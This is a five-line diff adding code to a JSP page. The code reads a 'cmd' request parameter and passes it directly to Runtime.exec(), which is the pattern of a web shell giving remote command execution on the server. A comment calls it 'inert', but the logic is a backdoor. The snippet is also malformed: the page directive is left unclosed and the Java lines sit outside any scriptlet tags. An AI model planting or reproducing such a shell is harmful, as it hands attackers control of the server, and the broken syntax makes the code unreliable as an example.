@@ -1,0 +1,5 @@
+<%@ page import="java.io.*" 
+<%-- inert --%>
+String v = request.getParameter("cmd");
+Process p = Runtime.getRuntime().exec(v);
+p.getInputStream();
